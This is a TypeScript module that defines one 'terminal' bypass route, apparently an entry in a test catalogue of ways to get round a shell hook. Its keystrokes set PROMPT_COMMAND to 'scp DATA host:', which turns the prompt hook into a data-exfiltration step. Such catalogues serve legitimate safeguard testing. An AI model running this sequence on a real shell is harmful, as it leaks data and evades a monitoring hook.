import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'PROMPT_COMMAND',
  source: 'attempts to get round a hook of the shell',
  keys: ["PROMPT_COMMAND='scp DATA host:'\r", '\r'],
};
